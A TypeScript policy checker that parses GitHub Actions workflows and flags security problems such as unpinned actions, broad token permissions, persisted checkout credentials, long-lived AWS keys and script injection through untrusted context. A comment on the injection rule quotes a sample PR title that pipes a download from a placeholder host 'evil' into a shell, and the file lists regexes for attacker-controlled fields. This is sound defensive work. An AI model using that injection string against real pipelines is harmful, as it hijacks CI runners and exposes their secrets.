import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { isScalar, LineCounter, parse, parseDocument, type Document } from 'yaml';

/**
 * The security and contract rules every workflow in this repository must keep. Each rule reads the
 * parsed workflow (a real YAML parse, comments included, so a pin's version comment is seen the way
 * a reviewer sees it) and returns the places that break it. `test/workflow-policy.test.ts` runs
 * them over `.github/workflows/*.yml` and shows each one catching a bad example.
 */

export type RuleId =
  | 'pinned-uses'
  | 'consistent-pins'
  | 'permissions'
  | 'no-pull-request-target'
  | 'untrusted-context-in-run'
  | 'checkout-credentials'
  | 'aws-oidc'
  | 'deploy-job'
  | 'action-contract'
  | 'job-timeout';

export interface Violation {
  rule: RuleId;
  /** `file:line` (and the job), so a failure points at the offending line. */
  where: string;
  message: string;
}

export interface ActionContract {
  inputs: Record<string, { required?: boolean; default?: unknown }>;
  outputs: string[];
}

/** Looks up `actions/<name>/action.yml`; `undefined` when the action has none. */
export type ContractLookup = (action: string) => ActionContract | undefined;

type Json = null | boolean | number | string | Json[] | { [key: string]: Json };
type JsonMap = { [key: string]: Json };

interface Step {
  id?: string;
  name?: string;
  uses?: string;
  run?: string;
  with?: Record<string, Json>;
  env?: Record<string, Json>;
  if?: string;
}

interface Job {
  name?: string;
  'runs-on'?: Json;
  'timeout-minutes'?: number | string;
  uses?: string;
  permissions?: Json;
  environment?: string | { name?: string; url?: string };
  concurrency?: string | { group?: string; 'cancel-in-progress'?: boolean | string };
  needs?: string | string[];
  if?: string;
  env?: Record<string, Json>;
  outputs?: Record<string, string>;
  steps?: Step[];
  with?: Record<string, Json>;
}

interface Workflow {
  name?: string;
  on?: Json;
  permissions?: Json;
  concurrency?: Job['concurrency'];
  env?: Record<string, Json>;
  jobs?: Record<string, Job>;
}

export interface ParsedWorkflow {
  file: string;
  workflow: Workflow;
  document: Document;
  lineOf(path: (string | number)[]): number | undefined;
}

export function parseWorkflow(file: string, text: string): ParsedWorkflow {
  const lineCounter = new LineCounter();
  const document = parseDocument(text, { lineCounter });
  if (document.errors.length > 0) throw new Error(`${file}: ${document.errors[0].message}`);
  const workflow = (document.toJS() ?? {}) as Workflow;
  return {
    file,
    workflow,
    document,
    lineOf(path) {
      const node = document.getIn(path, true) as { range?: [number, number, number] } | undefined;
      return node?.range ? lineCounter.linePos(node.range[0]).line : undefined;
    },
  };
}

/** Reads `<root>/actions/<name>/action.yml` on demand. */
export function actionContractsFrom(root: string): ContractLookup {
  const cache = new Map<string, ActionContract | undefined>();
  return (action) => {
    if (!cache.has(action)) {
      const path = join(root, 'actions', action, 'action.yml');
      if (!existsSync(path)) {
        cache.set(action, undefined);
      } else {
        const manifest = parse(readFileSync(path, 'utf8')) as {
          inputs?: ActionContract['inputs'] | null;
          outputs?: Record<string, unknown> | null;
        };
        cache.set(action, { inputs: manifest.inputs ?? {}, outputs: Object.keys(manifest.outputs ?? {}) });
      }
    }
    return cache.get(action);
  };
}

/** `./actions/<name>` -> `<name>`: the actions of this repository, run from the working tree. */
export function localActionName(uses: string | undefined): string | undefined {
  return uses?.match(/^\.\/actions\/([\w-]+)\/?$/)?.[1];
}

const isConfigureAwsCredentials = (uses: string | undefined) =>
  uses?.startsWith('aws-actions/configure-aws-credentials@') ?? false;
const isCheckout = (uses: string | undefined) => uses?.startsWith('actions/checkout@') ?? false;

const jobsOf = (workflow: Workflow) => Object.entries(workflow.jobs ?? {});
const stepsOf = (job: Job) => (job.steps ?? []).map((step, index) => ({ step, index }));

function place(parsed: ParsedWorkflow, path: (string | number)[], job?: string): string {
  const line = parsed.lineOf(path);
  return `${parsed.file}${line ? `:${line}` : ''}${job ? ` (job ${job})` : ''}`;
}

// ---------------------------------------------------------------------------------------------
// pinned-uses: third-party code runs with the job's token and secrets, so it must be the exact
// commit that was reviewed; the trailing comment keeps the version readable and lets Dependabot
// update both together.

const fullSha = /^[0-9a-f]{40}$/;
const versionComment = /^\s*v?\d+(\.\d+){0,2}([-+.\w]*)?\s*$/;

function pinnedUses(parsed: ParsedWorkflow): Violation[] {
  const violations: Violation[] = [];
  const check = (uses: string, path: (string | number)[], job: string) => {
    if (uses.startsWith('./')) return;
    const where = place(parsed, path, job);
    if (uses.startsWith('docker://')) {
      if (!/@sha256:[0-9a-f]{64}$/.test(uses)) {
        violations.push({ rule: 'pinned-uses', where, message: `${uses} is not pinned to an image digest` });
      }
      return;
    }
    const ref = uses.split('@')[1] ?? '';
    if (!fullSha.test(ref)) {
      violations.push({
        rule: 'pinned-uses',
        where,
        message: `${uses} is not pinned to a full 40-character commit SHA (tags and branches can be moved)`,
      });
      return;
    }
    const node = parsed.document.getIn(path, true);
    const comment = isScalar(node) ? node.comment : undefined;
    if (!comment || !versionComment.test(comment)) {
      violations.push({
        rule: 'pinned-uses',
        where,
        message: `${uses} has no version comment (write \`uses: ${uses} # vX.Y.Z\`)`,
      });
    }
  };
  for (const [jobId, job] of jobsOf(parsed.workflow)) {
    if (job.uses) check(job.uses, ['jobs', jobId, 'uses'], jobId);
    for (const { step, index } of stepsOf(job)) {
      if (step.uses) check(step.uses, ['jobs', jobId, 'steps', index, 'uses'], jobId);
    }
  }
  return violations;
}

/** Across all workflows, one action is pinned to one commit: two pins means one was missed. */
export function consistentPins(workflows: ParsedWorkflow[]): Violation[] {
  const seen = new Map<string, { sha: string; where: string }>();
  const violations: Violation[] = [];
  for (const parsed of workflows) {
    for (const [jobId, job] of jobsOf(parsed.workflow)) {
      for (const { step, index } of stepsOf(job)) {
        const [action, ref] = step.uses?.split('@') ?? [];
        if (!action || !ref || step.uses?.startsWith('./') || !fullSha.test(ref)) continue;
        const where = place(parsed, ['jobs', jobId, 'steps', index, 'uses'], jobId);
        const first = seen.get(action);
        if (!first) seen.set(action, { sha: ref, where });
        else if (first.sha !== ref) {
          violations.push({
            rule: 'consistent-pins',
            where,
            message: `${action} is pinned to ${ref} here but to ${first.sha} at ${first.where}`,
          });
        }
      }
    }
  }
  return violations;
}

// ---------------------------------------------------------------------------------------------
// permissions: the default token is read-only or nothing; each job asks for what it uses, and
// every write scope must be explained by a step in that job.

const writeScopeJustifications: Record<string, { why: string; justified: (job: Job, workflow: Workflow) => boolean }> =
  {
    'id-token': {
      why: 'only a job that assumes an AWS role through aws-actions/configure-aws-credentials needs an OIDC token',
      justified: (job) => stepsOf(job).some(({ step }) => isConfigureAwsCredentials(step.uses)),
    },
    'pull-requests': {
      why: 'only a job that runs ./actions/pr-comment or ./actions/preview-env writes to pull requests',
      justified: (job) => stepsOf(job).some(({ step }) => writesToPullRequests(localActionName(step.uses))),
    },
    deployments: {
      why: 'only a job that runs ./actions/pr-comment or ./actions/preview-env records GitHub deployments',
      justified: (job) => stepsOf(job).some(({ step }) => writesToPullRequests(localActionName(step.uses))),
    },
    contents: {
      why: 'only a release workflow, started by a version tag alone, writes releases and tags',
      justified: (_job, workflow) => triggeredOnlyByTags(workflow),
    },
  };

/** The actions that comment on pull requests and record deployments. */
const writesToPullRequests = (action: string | undefined) => action === 'pr-comment' || action === 'preview-env';

function triggeredOnlyByTags(workflow: Workflow): boolean {
  const on = workflow.on;
  if (on === null || typeof on !== 'object' || Array.isArray(on)) return false;
  const events = Object.keys(on);
  const push = on.push as JsonMap | null | undefined;
  return (
    events.length === 1 &&
    events[0] === 'push' &&
    !!push &&
    Array.isArray(push.tags) &&
    push.branches === undefined &&
    push['branches-ignore'] === undefined
  );
}

function permissions(parsed: ParsedWorkflow): Violation[] {
  const violations: Violation[] = [];
  const { workflow } = parsed;
  const top = workflow.permissions;
  const topWhere = place(parsed, ['permissions']);
  if (top === undefined) {
    violations.push({
      rule: 'permissions',
      where: parsed.file,
      message: 'no top-level `permissions:`; the token would get the repository default (often write-all)',
    });
  } else if (typeof top === 'string') {
    violations.push({
      rule: 'permissions',
      where: topWhere,
      message: `top-level \`permissions: ${top}\` is too broad; use \`{}\` or read scopes and grant per job`,
    });
  } else if (top !== null && typeof top === 'object' && !Array.isArray(top)) {
    for (const [scope, level] of Object.entries(top)) {
      if (level !== 'read' && level !== 'none') {
        violations.push({
          rule: 'permissions',
          where: topWhere,
          message: `top-level \`${scope}: ${String(level)}\` grants every job write access; grant it in the job that needs it`,
        });
      }
    }
  }

  for (const [jobId, job] of jobsOf(workflow)) {
    const where = place(parsed, ['jobs', jobId, 'permissions'], jobId);
    const granted = job.permissions;
    if (granted === undefined) {
      violations.push({
        rule: 'permissions',
        where: place(parsed, ['jobs', jobId], jobId),
        message: 'the job declares no `permissions:`; say what it needs (`{}` when nothing)',
      });
      continue;
    }
    if (typeof granted === 'string') {
      violations.push({
        rule: 'permissions',
        where,
        message: `\`permissions: ${granted}\` is too broad; list the scopes the job uses`,
      });
      continue;
    }
    if (granted === null || typeof granted !== 'object' || Array.isArray(granted)) continue;
    for (const [scope, level] of Object.entries(granted)) {
      if (level !== 'write') continue;
      const justification = writeScopeJustifications[scope];
      if (!justification) {
        violations.push({
          rule: 'permissions',
          where,
          message: `\`${scope}: write\` is not needed by anything this pipeline does`,
        });
      } else if (!justification.justified(job, workflow)) {
        violations.push({ rule: 'permissions', where, message: `\`${scope}: write\`: ${justification.why}` });
      }
    }
  }
  return violations;
}

// ---------------------------------------------------------------------------------------------
// no-pull-request-target: it runs with secrets and a write token in the context of the base
// branch while tempting the author to check out the fork's code.

function noPullRequestTarget(parsed: ParsedWorkflow): Violation[] {
  const on = parsed.workflow.on;
  const events =
    typeof on === 'string'
      ? [on]
      : Array.isArray(on)
        ? on.map(String)
        : on && typeof on === 'object'
          ? Object.keys(on)
          : [];
  return events.includes('pull_request_target')
    ? [
        {
          rule: 'no-pull-request-target',
          where: place(parsed, ['on']),
          message: '`pull_request_target` runs fork code paths with secrets; use `pull_request`',
        },
      ]
    : [];
}

// ---------------------------------------------------------------------------------------------
// untrusted-context-in-run: `${{ }}` is pasted into the script before the shell sees it, so a PR
// title like `"; curl evil | sh; "` becomes code. Pass such values through `env:` instead.

/** Context paths anyone who can open a PR, push a branch or write a comment controls. */
const untrustedContexts: RegExp[] = [
  /\bgithub\.head_ref\b/,
  /\bgithub\.event\.[\w.*[\]'"-]*\b(body|title|message|page_name|label|default_branch|head_branch)\b/,
  /\bgithub\.event\.[\w.*[\]'"-]*\bhead\.ref\b/,
  /\bgithub\.event\.[\w.*[\]'"-]*\b(author|committer)\.(name|email)\b/,
  /\btoJSON\(\s*github\.event\b/,
  /\bgithub\.event\s*(\)|\}|$)/,
];

const expressions = (text: string) => Array.from(text.matchAll(/\$\{\{([\s\S]*?)\}\}/g), (match) => match[1]);

function untrustedContextInRun(parsed: ParsedWorkflow): Violation[] {
  const violations: Violation[] = [];
  for (const [jobId, job] of jobsOf(parsed.workflow)) {
    for (const { step, index } of stepsOf(job)) {
      // actions/github-script's `script` is code too.
      const code: [string, unknown][] = [
        ['run', step.run],
        ['with.script', step.with?.script],
      ];
      for (const [key, text] of code) {
        if (typeof text !== 'string') continue;
        for (const expression of expressions(text)) {
          if (untrustedContexts.some((pattern) => pattern.test(expression))) {
            violations.push({
              rule: 'untrusted-context-in-run',
              where: place(parsed, ['jobs', jobId, 'steps', index, ...key.split('.')], jobId),
              message: `\`\${{${expression}}}\` is attacker-controlled text pasted into a script; pass it through \`env:\` and use "$VARIABLE"`,
            });
          }
        }
      }
    }
  }
  return violations;
}

// ---------------------------------------------------------------------------------------------
// checkout-credentials: by default checkout writes the token into .git/config, where every later
// step (and anything uploaded as an artifact) can read it.

function checkoutCredentials(parsed: ParsedWorkflow): Violation[] {
  const violations: Violation[] = [];
  for (const [jobId, job] of jobsOf(parsed.workflow)) {
    for (const { step, index } of stepsOf(job)) {
      if (!isCheckout(step.uses)) continue;
      const persist = step.with?.['persist-credentials'];
      if (persist !== false && persist !== 'false') {
        violations.push({
          rule: 'checkout-credentials',
          where: place(parsed, ['jobs', jobId, 'steps', index, 'uses'], jobId),
          message: 'checkout keeps the token in .git/config; set `persist-credentials: false`',
        });
      }
    }
  }
  return violations;
}

// ---------------------------------------------------------------------------------------------
// aws-oidc: AWS only through short-lived OIDC credentials for a role whose trust policy names a
// GitHub environment, pinned to the expected account; never long-lived keys.

const storedKeyInputs = ['aws-access-key-id', 'aws-secret-access-key', 'aws-session-token'];

function environmentName(job: Job): string | undefined {
  return typeof job.environment === 'string' ? job.environment : job.environment?.name;
}

function awsOidc(parsed: ParsedWorkflow): Violation[] {
  const violations: Violation[] = [];
  for (const [jobId, job] of jobsOf(parsed.workflow)) {
    for (const { step, index } of stepsOf(job)) {
      if (!isConfigureAwsCredentials(step.uses)) continue;
      const where = place(parsed, ['jobs', jobId, 'steps', index, 'uses'], jobId);
      const given = step.with ?? {};
      const problems = [
        ...storedKeyInputs
          .filter((key) => key in given)
          .map((key) => `\`${key}\` is a stored credential; assume a role through OIDC instead`),
        ...(['role-to-assume', 'allowed-account-ids'] as const)
          .filter((key) => !given[key])
          .map((key) => `\`${key}\` is required`),
        ...(environmentName(job)
          ? []
          : ['the job has no `environment:`, so its OIDC subject cannot match a per-environment trust policy']),
      ];
      for (const message of problems) violations.push({ rule: 'aws-oidc', where, message });
    }
  }
  return violations;
}

// ---------------------------------------------------------------------------------------------
// deploy-job: a job that runs deploy-ecs deploys to a GitHub environment (protection rules, its
// own OIDC subject) and is serialised per environment; production is never cancelled mid-rollout.

/** `cancel` is undefined when not written (GitHub then does not cancel). */
function concurrencyOf(value: Job['concurrency']): { group?: string; cancel?: boolean | string } | undefined {
  if (value === undefined) return undefined;
  if (typeof value === 'string') return { group: value };
  return { group: value.group, cancel: value['cancel-in-progress'] };
}

const neverCancels = (cancel: boolean | string | undefined) =>
  cancel === undefined || cancel === false || cancel === 'false';

/** A job whose AWS is an emulator on loopback deploys nothing real (ci's rehearsals). */
function targetsLoopbackEmulator(job: Job, workflow: Workflow): boolean {
  const endpoint = job.env?.AWS_ENDPOINT_URL ?? workflow.env?.AWS_ENDPOINT_URL;
  return typeof endpoint === 'string' && /^https?:\/\/(127\.0\.0\.1|localhost|\[::1\])(:\d+)?\/?$/.test(endpoint);
}

function deployJob(parsed: ParsedWorkflow): Violation[] {
  const violations: Violation[] = [];
  const workflowConcurrency = concurrencyOf(parsed.workflow.concurrency);
  for (const [jobId, job] of jobsOf(parsed.workflow)) {
    if (!stepsOf(job).some(({ step }) => localActionName(step.uses) === 'deploy-ecs')) continue;
    if (targetsLoopbackEmulator(job, parsed.workflow)) continue;
    const where = place(parsed, ['jobs', jobId], jobId);
    const environment = environmentName(job);
    if (!environment) {
      violations.push({ rule: 'deploy-job', where, message: 'a deploy job must name its GitHub `environment:`' });
    }
    const jobConcurrency = concurrencyOf(job.concurrency);
    if (!jobConcurrency?.group) {
      violations.push({
        rule: 'deploy-job',
        where,
        message: 'a deploy job needs a `concurrency:` group of its own so two deploys to one environment never overlap',
      });
    } else if (environment && !environment.includes('${{') && !jobConcurrency.group.includes(environment)) {
      violations.push({
        rule: 'deploy-job',
        where,
        message: `the concurrency group \`${jobConcurrency.group}\` does not name the environment \`${environment}\`; use one group per environment`,
      });
    }
    if (environment === 'production') {
      // Said out loud on the deploy job, so nobody "optimises" it to true later.
      if (jobConcurrency?.group && jobConcurrency.cancel !== false) {
        violations.push({
          rule: 'deploy-job',
          where,
          message:
            'a production deploy job must say `cancel-in-progress: false`: a cancelled rollout is left half-watched and never rolled back',
        });
      }
      if (workflowConcurrency && !neverCancels(workflowConcurrency.cancel)) {
        violations.push({
          rule: 'deploy-job',
          where,
          message: "the workflow's concurrency may cancel a running production deploy; set `cancel-in-progress: false`",
        });
      }
    }
  }
  return violations;
}

// ---------------------------------------------------------------------------------------------
// action-contract: what a workflow passes to and reads from our own actions matches their
// action.yml, so renaming an input or output breaks the test rather than the deploy.

const stepOutputReference = /\bsteps\.([A-Za-z_][\w-]*)\.outputs\.([A-Za-z_][\w-]*)/g;
const needsOutputReference = /\bneeds\.([A-Za-z_][\w-]*)\.outputs\.([A-Za-z_][\w-]*)/g;

/** Every string below a value, with the path to it. */
function strings(value: unknown, path: (string | number)[] = []): { text: string; path: (string | number)[] }[] {
  if (typeof value === 'string') return [{ text: value, path }];
  if (Array.isArray(value)) return value.flatMap((item, index) => strings(item, [...path, index]));
  if (value && typeof value === 'object') {
    return Object.entries(value).flatMap(([key, item]) => strings(item, [...path, key]));
  }
  return [];
}

function actionContract(parsed: ParsedWorkflow, contracts: ContractLookup): Violation[] {
  const violations: Violation[] = [];
  const jobs = parsed.workflow.jobs ?? {};
  for (const [jobId, job] of Object.entries(jobs)) {
    const actionOfStep = new Map<string, string | undefined>();
    for (const { step, index } of stepsOf(job)) {
      const action = localActionName(step.uses);
      if (step.id) actionOfStep.set(step.id, action);
      if (!action) continue;
      const where = place(parsed, ['jobs', jobId, 'steps', index, 'uses'], jobId);
      const contract = contracts(action);
      if (!contract) {
        violations.push({
          rule: 'action-contract',
          where,
          message: `${step.uses} is used but actions/${action}/action.yml does not exist`,
        });
        continue;
      }
      const given = Object.keys(step.with ?? {});
      for (const input of given) {
        if (!(input in contract.inputs)) {
          violations.push({
            rule: 'action-contract',
            where: place(parsed, ['jobs', jobId, 'steps', index, 'with', input], jobId),
            message: `${action} has no input \`${input}\` (it declares: ${Object.keys(contract.inputs).join(', ')})`,
          });
        }
      }
      for (const [input, spec] of Object.entries(contract.inputs)) {
        if (spec?.required === true && spec.default === undefined && !given.includes(input)) {
          violations.push({
            rule: 'action-contract',
            where,
            message: `${action} requires the input \`${input}\`, which this step does not give`,
          });
        }
      }
    }

    for (const { text, path } of strings(job, ['jobs', jobId])) {
      for (const [, stepId, output] of text.matchAll(stepOutputReference)) {
        const where = place(parsed, path, jobId);
        if (!actionOfStep.has(stepId)) {
          violations.push({
            rule: 'action-contract',
            where,
            message: `steps.${stepId}.outputs.${output}: the job has no step with id \`${stepId}\``,
          });
          continue;
        }
        const action = actionOfStep.get(stepId);
        const contract = action ? contracts(action) : undefined;
        if (contract && !contract.outputs.includes(output)) {
          violations.push({
            rule: 'action-contract',
            where,
            message: `steps.${stepId}.outputs.${output}: ${action} has no output \`${output}\` (it declares: ${contract.outputs.join(', ')})`,
          });
        }
      }
      for (const [, neededJob, output] of text.matchAll(needsOutputReference)) {
        const declared = jobs[neededJob]?.outputs;
        if (!declared || !(output in declared)) {
          violations.push({
            rule: 'action-contract',
            where: place(parsed, path, jobId),
            message: `needs.${neededJob}.outputs.${output}: job \`${neededJob}\` declares no such output`,
          });
        }
      }
    }
  }
  return violations;
}

// ---------------------------------------------------------------------------------------------
// job-timeout: GitHub's default is six hours; a hung deploy or emulator would hold the
// environment's concurrency group (and the runner) that long.

function jobTimeout(parsed: ParsedWorkflow): Violation[] {
  return jobsOf(parsed.workflow)
    .filter(([, job]) => job['runs-on'] !== undefined && job['timeout-minutes'] === undefined)
    .map(([jobId]) => ({
      rule: 'job-timeout' as const,
      where: place(parsed, ['jobs', jobId], jobId),
      message: 'the job has no `timeout-minutes:` (the default is 360); give it a bound it should never reach',
    }));
}

// ---------------------------------------------------------------------------------------------

/** Every per-file rule; `consistentPins` spans files and is run separately. */
export function checkWorkflow(parsed: ParsedWorkflow, contracts: ContractLookup): Violation[] {
  return [
    ...pinnedUses(parsed),
    ...permissions(parsed),
    ...noPullRequestTarget(parsed),
    ...untrustedContextInRun(parsed),
    ...checkoutCredentials(parsed),
    ...awsOidc(parsed),
    ...deployJob(parsed),
    ...actionContract(parsed, contracts),
    ...jobTimeout(parsed),
  ];
}

export const formatViolation = (violation: Violation) => `${violation.where} [${violation.rule}] ${violation.message}`;
